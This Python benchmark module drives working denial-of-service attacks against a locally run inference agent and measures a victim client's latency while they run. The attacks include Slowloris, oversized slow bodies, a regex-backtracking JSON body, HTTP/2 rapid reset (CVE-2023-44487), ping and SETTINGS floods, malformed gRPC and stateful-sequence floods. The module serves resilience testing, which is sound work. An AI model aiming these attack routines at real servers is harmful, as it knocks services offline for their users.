"""Attacks on an agent's doors, and the victim client that runs through them.

Each attack runs in its own process (`python bench/attacks.py NAME ...`), from
its own loopback address (127.0.0.x, so per-address limits see it apart from
the victim), for a bounded time and a bounded number of connections, and
prints one JSON line: what it sent and how the agent answered or cut it off.
`run_attack` starts one and returns that line with the CPU the attacker used.
`Victim` sends small valid requests closed-loop (one caller that never
pauses) and records their latencies and errors. bench/dos.py and
tests/agent/frontdoor/test_attacks.py drive both against a real agent.

Traffic goes to loopback only.
"""

from __future__ import annotations

import argparse
import contextlib
import http.client
import json
import os
import resource
import selectors
import socket
import struct
import subprocess
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve()

# --- the victim -------------------------------------------------------------------------------


def infer_body(width: int = 16) -> bytes:
    """A small valid JSON request for the demo repository's `add_sub`."""
    inputs = [
        {"name": name, "shape": [1, width], "datatype": "FP32", "data": [1.0] * width}
        for name in ("INPUT0", "INPUT1")
    ]
    return json.dumps({"inputs": inputs}).encode()


@dataclass
class Victim:
    """One caller that never pauses: small valid inference requests over HTTP
    keep-alive (reconnecting after a failure, which counts as an error)."""

    port: int
    path: str = "/v2/models/add_sub/infer"
    body: bytes = field(default_factory=infer_body)
    latencies: list[float] = field(default_factory=list)
    errors: Counter[str] = field(default_factory=Counter)
    _stop: threading.Event = field(default_factory=threading.Event)
    _thread: threading.Thread | None = None

    def start(self) -> Victim:
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()
        return self

    def stop(self) -> None:
        self._stop.set()
        if self._thread is not None:
            self._thread.join(15)

    def reset(self) -> None:
        self.latencies, self.errors = [], Counter()

    def _run(self) -> None:
        conn: http.client.HTTPConnection | None = None
        headers = {"Content-Type": "application/json"}
        while not self._stop.is_set():
            if conn is None:
                conn = http.client.HTTPConnection("127.0.0.1", self.port, timeout=10)
            start = time.perf_counter()
            try:
                conn.request("POST", self.path, self.body, headers)
                reply = conn.getresponse()
                text = reply.read()
                if reply.status != 200:
                    self.errors[f"http {reply.status}: {text[:100].decode(errors='replace')}"] += 1
                else:
                    self.latencies.append(time.perf_counter() - start)
            except (OSError, http.client.HTTPException) as exc:
                self.errors[type(exc).__name__] += 1
                conn.close()
                conn = None
                time.sleep(0.01)

    def percentile(self, q: float) -> float:
        ordered = sorted(self.latencies)
        return ordered[min(len(ordered) - 1, int(q * len(ordered)))] if ordered else float("nan")


# --- running an attack in its own process -----------------------------------------------------


def run_attack(name: str, port: int, seconds: float, source: str = "127.0.0.2",
               on_start: Callable[[], None] | None = None,
               **options: Any) -> dict[str, Any]:  # fmt: skip
    """Run attack `name` in a child process; its summary, with the CPU it used.
    `on_start` is called once the child is up and its attack begins (so a victim
    measures the attack, not the attacker's interpreter starting)."""
    argv = [sys.executable, str(HERE), name, "--port", str(port), "--seconds", str(seconds),
            "--source", source]  # fmt: skip
    for key, value in options.items():
        argv += [f"--{key.replace('_', '-')}", str(value)]
    child = subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert child.stdout is not None
    try:
        first = child.stdout.readline()  # "started", or nothing if it failed
        if on_start is not None and first.strip() == b"started":
            on_start()
        out, err = child.communicate(timeout=seconds + 60)
    except subprocess.TimeoutExpired:
        child.kill()
        raise
    lines = out.decode().strip().splitlines()
    if child.returncode != 0 or not lines:
        raise RuntimeError(f"attack {name} failed ({child.returncode}): {err.decode()[-2000:]}")
    summary: dict[str, Any] = json.loads(lines[-1])
    summary["attacker_cpu_s"] = round(summary.pop("cpu_s"), 2)
    return summary


def cpu_seconds(pid: int) -> float:
    """CPU time of `pid` and its children that it waited for (utime + stime + cutime + cstime)."""
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    ticks = os.sysconf("SC_CLK_TCK")
    return sum(int(f) for f in fields[11:15]) / ticks


def rss_bytes(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) * 1024
    return 0


# --- the attacks (run in the child) -----------------------------------------------------------


def _connect(port: int, source: str, timeout: float = 5.0) -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.settimeout(timeout)
    sock.bind((source, 0))
    sock.connect(("127.0.0.1", port))
    return sock


def _status(data: bytes) -> int | None:
    if data.startswith(b"HTTP/1.1 "):
        with contextlib.suppress(ValueError):
            return int(data[9:12])
    return None


def _raise_nofile(n: int) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < n:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(n, hard), hard))


def json_nesting(a: argparse.Namespace) -> dict[str, Any]:
    """POST bodies of `[`x40, then an unterminated string of `\\"`x~30k (60 KB): the
    body that made a backtracking regex take 12-17 s."""
    body = b"[" * 40 + b'"' + b'\\"' * 30_000
    statuses: Counter[str] = Counter()
    slowest, deadline = 0.0, time.monotonic() + a.seconds
    conns = [None] * a.connections
    sent = 0
    while time.monotonic() < deadline and sent < a.max_requests:
        for i in range(a.connections):
            conn = conns[i] or http.client.HTTPConnection("127.0.0.1", a.port, timeout=30,
                                                          source_address=(a.source, 0))  # fmt: skip
            conns[i] = conn
            start = time.perf_counter()
            try:
                conn.request("POST", "/v2/models/add_sub/infer", body)
                reply = conn.getresponse()
                reply.read()
                statuses[str(reply.status)] += 1
            except (OSError, http.client.HTTPException) as exc:
                statuses[type(exc).__name__] += 1
                conn.close()
                conns[i] = None
            slowest = max(slowest, time.perf_counter() - start)
            sent += 1
        time.sleep(a.pause)
    return {"requests": sent, "statuses": dict(statuses), "slowest_answer_s": round(slowest, 4)}


def big_bodies(a: argparse.Namespace) -> dict[str, Any]:
    """Connections that announce `Content-Length: 120000000` and send the body at
    `rate` bytes/s each, until the agent answers or closes."""
    sel = selectors.DefaultSelector()
    chunk = b"\0" * 65536
    outcome: Counter[str] = Counter()
    sent_total = 0
    socks = []
    for _ in range(a.connections):
        sock = _connect(a.port, a.source)
        sock.sendall(b"POST /v2/models/add_sub/infer HTTP/1.1\r\nHost: x\r\n"
                     b"Content-Length: 120000000\r\n\r\n")  # fmt: skip
        sock.setblocking(False)
        sel.register(sock, selectors.EVENT_READ)
        socks.append(sock)
    start = time.monotonic()
    budget = {s: 0 for s in socks}
    open_ = set(socks)
    while open_ and time.monotonic() - start < a.seconds:
        for key, _ in sel.select(timeout=0.05):
            sock = key.fileobj
            try:
                data = sock.recv(4096)  # type: ignore[union-attr]
            except OSError:
                data = b""
            outcome[f"answered {_status(data)}" if data else "closed"] += 1
            sel.unregister(sock)
            open_.discard(sock)  # type: ignore[arg-type]
        allowed = int((time.monotonic() - start) * a.rate)
        for sock in list(open_):
            while budget[sock] < allowed:
                try:
                    n = sock.send(chunk)
                except BlockingIOError:
                    break
                except OSError:
                    outcome["closed"] += 1
                    sel.unregister(sock)
                    open_.discard(sock)
                    break
                budget[sock] += n
                sent_total += n
    outcome["still open"] = len(open_)
    for sock in socks:
        sock.close()
    return {"outcome": dict(outcome), "sent_bytes": sent_total,
            "seconds": round(time.monotonic() - start, 2)}  # fmt: skip


def _open_many(a: argparse.Namespace) -> tuple[list[socket.socket], int]:
    """`a.connections` connections from `a.source`; (those made, those refused)."""
    _raise_nofile(a.connections + 64)
    socks, refused = [], 0
    for _ in range(a.connections):
        try:
            socks.append(_connect(a.port, a.source))
        except OSError:
            refused += 1
    return socks, refused


def _answer(sock: socket.socket) -> str | None:
    """What the server said on `sock` so far without waiting: None (nothing yet),
    "closed" or "answered <status>"."""
    sock.setblocking(False)
    try:
        data = sock.recv(4096)
    except BlockingIOError:
        return None
    except OSError:
        return "closed"
    finally:
        sock.setblocking(True)
    return f"answered {_status(data)}" if data else "closed"


def slow_headers(a: argparse.Namespace) -> dict[str, Any]:
    """Slowloris: connections that send a request's headers one byte at a time, one
    byte per connection every `interval` seconds."""
    head = b"POST /v2/models/add_sub/infer HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 10_000
    socks, refused = _open_many(a)
    sent = {s: 0 for s in socks}
    ended: Counter[str] = Counter()
    start = time.monotonic()
    open_ = list(socks)
    while open_ and time.monotonic() - start < a.seconds:
        for sock in list(open_):
            try:
                sock.send(head[sent[sock] : sent[sock] + 1])
                sent[sock] += 1
                answer = _answer(sock)
            except OSError:
                answer = "closed"
            if answer is not None:
                ended[answer] += 1
                open_.remove(sock)
        time.sleep(a.interval)
    held = len(open_)
    for sock in socks:
        sock.close()
    return {"connections": len(socks), "refused_at_connect": refused, "outcome": dict(ended),
            "still_open": held, "seconds": round(time.monotonic() - start, 2)}  # fmt: skip


def idle_connections(a: argparse.Namespace) -> dict[str, Any]:
    """Many connections opened and left idle (no byte sent)."""
    socks, refused = _open_many(a)
    time.sleep(a.seconds)
    alive = sum(_answer(sock) is None for sock in socks)
    for sock in socks:
        sock.close()
    return {"connections": len(socks), "refused_at_connect": refused, "still_open": alive}


# HTTP/2, by hand: frames and HPACK literals (no Huffman, no indexing).
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY = 0, 1, 2, 3, 4, 6, 7
END_STREAM, END_HEADERS = 0x1, 0x4


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) \
        + payload  # fmt: skip


def _hpack_int(value: int) -> bytes:
    if value < 127:
        return bytes([value])
    out, value = [127], value - 127
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes([*out, value])


def hpack(headers: list[tuple[str, str]]) -> bytes:
    out = b""
    for name, value in headers:
        n, v = name.encode(), value.encode()
        out += b"\x00" + _hpack_int(len(n)) + n + _hpack_int(len(v)) + v
    return out


GRPC_HEADERS = [(":method", "POST"), (":scheme", "http"), (":authority", "x"),
                (":path", "/inference.GRPCInferenceService/ModelInfer"),
                ("content-type", "application/grpc"), ("te", "trailers")]  # fmt: skip


class H2Conn:
    """A raw HTTP/2 client connection that reads whatever the server sends."""

    def __init__(self, port: int, source: str) -> None:
        self.sock = _connect(port, source)
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self.goaway = False
        self.closed = False
        self.sock.setblocking(False)
        self._buf = b""

    def send(self, data: bytes) -> bool:
        if self.closed:
            return False
        try:
            self.sock.sendall(data)
            return True
        except (BlockingIOError, InterruptedError):
            return True  # the kernel buffer is full: the server is not reading
        except OSError:
            self.closed = True
            return False

    def pump(self) -> None:
        """Read what arrived; note GOAWAY and the connection's end."""
        while not self.closed:
            try:
                data = self.sock.recv(65536)
            except (BlockingIOError, InterruptedError):
                return
            except OSError:
                self.closed = True
                return
            if not data:
                self.closed = True
                return
            self._buf += data
            while len(self._buf) >= 9:
                length = int.from_bytes(self._buf[:3], "big")
                if len(self._buf) < 9 + length:
                    break
                if self._buf[3] == GOAWAY:
                    self.goaway = True
                self._buf = self._buf[9 + length :]


def _h2_loop(a: argparse.Namespace, burst: Any) -> dict[str, Any]:
    """Open connections one after another; on each, `burst(conn, stream_id)` frames as
    fast as the socket takes them, until the server says GOAWAY or closes. Reports
    how many connections and frames the agent took before it cut each off."""
    _raise_nofile(256)
    start, conns, streams, cut, refused = time.monotonic(), 0, 0, Counter(), 0
    while time.monotonic() - start < a.seconds and conns < a.connections:
        try:
            conn = H2Conn(a.port, a.source)
        except OSError:
            refused += 1
            time.sleep(a.connect_pause)
            continue
        conns += 1
        stream_id = 1
        begun = time.monotonic()
        while (
            not conn.closed
            and time.monotonic() - begun < 5
            and time.monotonic() - start < a.seconds
        ):
            if not conn.send(burst(stream_id)):
                break
            stream_id += 2
            streams += 1
            conn.pump()
            if stream_id % 64 == 1:
                time.sleep(a.pause)
        conn.pump()
        cut["goaway" if conn.goaway else "closed" if conn.closed else "held"] += 1
        conn.sock.close()
        time.sleep(a.connect_pause)  # the attacker's rate is capped
    seconds = round(time.monotonic() - start, 2)
    return {"connections": conns, "refused_at_connect": refused, "frames": streams,
            "connections_ended_by": dict(cut), "seconds": seconds}  # fmt: skip


def h2_rapid_reset(a: argparse.Namespace) -> dict[str, Any]:
    """CVE-2023-44487: open a stream and reset it at once, over and over."""
    block = hpack(GRPC_HEADERS)
    return _h2_loop(a, lambda sid: frame(HEADERS, END_HEADERS, sid, block)
                    + frame(RST_STREAM, 0, sid, struct.pack(">I", 8)))  # fmt: skip


def h2_ping_flood(a: argparse.Namespace) -> dict[str, Any]:
    return _h2_loop(a, lambda sid: frame(PING, 0, 0, struct.pack(">Q", sid)))


def h2_settings_flood(a: argparse.Namespace) -> dict[str, Any]:
    return _h2_loop(a, lambda sid: frame(SETTINGS, 0, 0))


def h2_slow_streams(a: argparse.Namespace) -> dict[str, Any]:
    """Streams that each declare a large ModelInfer message and send it slowly: what
    the agent buffers is bounded by its windows and admission, and each stream is
    refused when its deadline passes."""
    conn = H2Conn(a.port, a.source)
    block = hpack(GRPC_HEADERS)
    prefix = struct.pack(">BI", 0, 64 * 1024 * 1024)
    streams = list(range(1, 2 * a.connections, 2))
    for sid in streams:
        conn.send(frame(HEADERS, END_HEADERS, sid, block) + frame(DATA, 0, sid, prefix))
    start, sent = time.monotonic(), 0
    chunk = b"\0" * 16384
    while time.monotonic() - start < a.seconds and not conn.closed:
        for sid in streams:
            if conn.send(frame(DATA, 0, sid, chunk)):
                sent += len(chunk)
        conn.pump()
        time.sleep(a.pause)
    conn.pump()
    conn.sock.close()
    return {"streams": len(streams), "sent_bytes": sent, "goaway": conn.goaway,
            "closed": conn.closed, "seconds": round(time.monotonic() - start, 2)}  # fmt: skip


def grpc_malformed(a: argparse.Namespace) -> dict[str, Any]:
    """ModelInfer calls whose message is not a protobuf (valid gRPC framing)."""
    import random

    import grpc

    rng = random.Random(1)
    channel = grpc.insecure_channel(f"127.0.0.1:{a.port}")
    call = channel.unary_unary("/inference.GRPCInferenceService/ModelInfer")
    codes: Counter[str] = Counter()
    start = time.monotonic()
    for i in range(a.max_requests):
        if time.monotonic() - start > a.seconds:
            break
        junk = bytes(rng.randrange(256) for _ in range(rng.randrange(1, 200)))
        if i % 3 == 0:
            junk = b"\x0a\xff\xff\xff\xff\x0f" + junk  # a length past the end
        try:
            call(junk, timeout=5)
            codes["OK"] += 1
        except grpc.RpcError as exc:
            codes[exc.code().name] += 1  # type: ignore[attr-defined]
        time.sleep(a.pause)  # the attacker's rate is capped
    channel.close()
    return {"requests": sum(codes.values()), "codes": dict(codes)}


def sequence_flood(a: argparse.Namespace) -> dict[str, Any]:
    """STARTs of ever new sequences of a stateful model (`a.model`, the demo's
    silero_vad_stream by default), never ended, one at a time on each of
    `a.connections` keep-alive connections: live sequences and their state, or
    waiting STARTs, for as long as the attack runs. A START left waiting when the
    attack ends is dropped with its connection."""
    chunk = {"name": "input", "shape": [1, 512], "datatype": "FP32", "data": [0.0] * 512}
    rate = {"name": "sr", "shape": [], "datatype": "INT64", "data": [16000]}
    statuses: Counter[str] = Counter()
    lock, deadline = threading.Lock(), time.monotonic() + a.seconds
    slowest = [0.0]

    def flood(worker: int) -> None:
        conn = http.client.HTTPConnection("127.0.0.1", a.port, timeout=a.seconds + 1,
                                          source_address=(a.source, 0))  # fmt: skip
        n = 0
        while time.monotonic() < deadline:
            n += 1
            parameters = {"sequence_id": f"flood-{worker}-{n}", "sequence_start": True}
            body = json.dumps({"inputs": [chunk, rate], "parameters": parameters}).encode()
            start = time.perf_counter()
            try:
                conn.request("POST", f"/v2/models/{a.model}/infer", body)
                reply = conn.getresponse()
                reply.read()
                outcome = str(reply.status)
            except TimeoutError:
                outcome = "still waiting"
            except (OSError, http.client.HTTPException) as exc:
                outcome = type(exc).__name__
            with lock:
                statuses[outcome] += 1
                slowest[0] = max(slowest[0], time.perf_counter() - start)
            if outcome != "200" and outcome != "429":
                conn.close()
                if outcome == "still waiting":
                    return
                conn = http.client.HTTPConnection("127.0.0.1", a.port, timeout=a.seconds + 1,
                                                  source_address=(a.source, 0))  # fmt: skip
            if outcome == "429":
                time.sleep(a.pause)
        conn.close()

    threads = [threading.Thread(target=flood, args=(i,)) for i in range(a.connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(a.seconds + 5)
    return {"starts": sum(statuses.values()), "statuses": dict(statuses),
            "slowest_answer_s": round(slowest[0], 3)}  # fmt: skip


ATTACKS = {f.__name__: f for f in (json_nesting, big_bodies, slow_headers, idle_connections,
                                   h2_rapid_reset, h2_ping_flood, h2_settings_flood,
                                   h2_slow_streams, grpc_malformed, sequence_flood)}  # fmt: skip


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--seconds", type=float, default=10.0)
    parser.add_argument("--source", default="127.0.0.2")
    parser.add_argument("--connections", type=int, default=4)
    parser.add_argument("--rate", type=float, default=4e6, help="bytes/s per connection")
    parser.add_argument("--interval", type=float, default=1.0)
    parser.add_argument("--pause", type=float, default=0.001)
    parser.add_argument("--connect-pause", type=float, default=0.002)
    parser.add_argument("--max-requests", type=int, default=100_000)
    parser.add_argument("--model", default="silero_vad_stream", help="sequence_flood's target")
    args = parser.parse_args()
    attack = ATTACKS[args.attack]
    if args.attack == "grpc_malformed":
        import grpc  # noqa: F401  (imported before the attack starts)
    print("started", flush=True)
    summary = attack(args)
    usage = resource.getrusage(resource.RUSAGE_SELF)
    summary["cpu_s"] = usage.ru_utime + usage.ru_stime
    print(json.dumps(summary))
    return 0


if __name__ == "__main__":
    sys.exit(main())
